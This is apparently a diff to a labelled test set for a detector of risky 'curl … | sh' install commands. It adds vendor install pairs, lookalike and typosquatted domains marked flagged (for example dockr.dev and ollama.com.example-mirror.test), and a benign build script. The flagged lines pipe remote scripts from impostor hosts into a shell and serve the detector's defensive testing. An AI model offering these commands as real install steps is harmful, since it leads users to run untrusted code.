@@ -62,6 +62,12 @@ DELIVERY = [
     ("https://kestrelsync.dev/docs/installation", "https://kestrelassets.net/cli/install.sh"),
     ("https://orbitdesk.com/linux/install", "https://orbitdl.com/orbitdesk/install.sh"),
     ("https://www.saffronmail.com/setup/linux", "https://cdn.saffroncdn.com/bridge/install.sh"),
+    ("https://lumenpass.com/download/linux", "https://downloads.lumenstatic.com/linux/install.sh"),
+    ("https://www.harrowdrive.com/desktop/linux", "https://harrowdl.com/desktop/install.sh"),
+    ("https://docs.pellucidhq.com/agent/install", "https://pellucidcdn.net/agent/install.sh"),
+    ("https://tindervault.io/docs/getting-started", "https://tinderassets.io/cli/install.sh"),
+    ("https://www.glassmoth.app/download", "https://glassmothfiles.com/app/install.sh"),
+    ("https://corvusdb.com/docs/installation", "https://dl.corvuscdn.com/corvusdb/install.sh"),
 ]
 SHAPES = [
     "curl -fsSL {} | sh",
@@ -128,6 +134,20 @@ LOOKALIKES = [
         "https://tallowvpn.com/download/linux/",
         "curl -fsSL http://downloads.tallowcdn.com/install.sh | sh",
     ),
+    # a shop's page and a CDN named after the shop: not about software
+    ("https://www.lumenpass.com/shop/gift-cards", "curl -fsSL https://lumenstatic.com/i.sh | sh"),
+    # a stem that only starts the page's name by chance, on a page about cooking
+    (
+        "https://www.corvusbakery.com/recipes/rye-bread",
+        "curl -fsSL https://corvuscdn.com/i.sh | sh",
+    ),
+    # the delivery domain's stem carrying a lure's word
+    ("https://tallowvpn.com/download/linux/", "curl -fsSL https://tallowverifycdn.com/i.sh | sh"),
+    # a third party's tutorial: no own section of the company's site
+    (
+        "https://dev.to/someone/tallowvpn-on-arch-2k1d",
+        "curl -fsSL https://tallowcdn.com/install.sh | sh",
+    ),
 ]
 for page, text in LOOKALIKES:
     book.add("delivery", text, flagged, "linux", "terminal", page)
@@ -193,6 +213,29 @@ book.add(
     "https://github.com/acme-finance/money/blob/main/money.py",
 )
 book.add("source", DOCTEST, ok, "any", "unknown", None)
+SH_SCRIPT = (
+    "#!/usr/bin/env bash\n"
+    "set -euo pipefail\n\n"
+    "VERSION=1.4.2                                  # release to package\n"
+    "ARCH=$(uname -m)                               # x86_64 or aarch64\n"
+    "WORK=$(mktemp -d)                              # scratch space\n\n"
+    'cd "$WORK"\n'
+    "curl -fsSLO https://releases.example.org/tool-$VERSION.tar.gz   # the source archive\n"
+    "tar xzf tool-$VERSION.tar.gz                   # unpack\n"
+    "cd tool-$VERSION\n"
+    "./configure --prefix=/usr/local                # build settings\n"
+    'make -j"$(nproc)"                             # build\n'
+    'echo "built tool $VERSION for $ARCH in $WORK"\n'
+)
+book.add(
+    "source",
+    SH_SCRIPT,
+    ok,
+    "linux",
+    "other",
+    "https://github.com/example-org/tool/blob/main/scripts/build.sh",
+)
+book.add("source", SH_SCRIPT, ok, "linux", "unknown", None)
 EVAL_PY = (
     "import ast\n\n\n"
     "def safe_eval(expr, names):\n"
@@ -401,6 +444,8 @@ for page, text in [
     ("https://llama.com/docs/get-started", "curl -fsSL https://llama.com/install.sh | sh"),
     ("https://www.llama.com/docs/overview", "curl -fsSL https://www.llama.com/install.sh | bash"),
     ("https://llama.com/docs/get-started", "irm https://llama.com/install.ps1 | iex"),
+    ("https://rocker.dev/docs/install", "curl -fsSL https://rocker.dev/install.sh | sh"),
+    ("https://www.rocker.dev/", "curl -fsSL https://get.rocker.dev | bash"),
 ]:
     book.add("vendor-name", text, ok, "linux", "terminal", page)
 for page, text in [
@@ -408,6 +453,11 @@ for page, text in [
     ("https://ollamma.com/download", "curl -fsSL https://ollamma.com/install.sh | sh"),
     ("https://www.ollama-setup.test/", "curl -fsSL https://ollama-setup.test/install.sh | sh"),
     ("https://docs.rustupp.rs/install", "curl -sSf https://rustupp.rs | sh"),
+    ("https://dockr.dev/install", "curl -fsSL https://get.dockr.dev | sh"),
+    (
+        "https://ollama.example-mirror.test/",
+        "curl -fsSL https://ollama.com.example-mirror.test/install.sh | sh",
+    ),
 ]:
     book.add("vendor-name", text, flagged, "linux", "terminal", page)
 
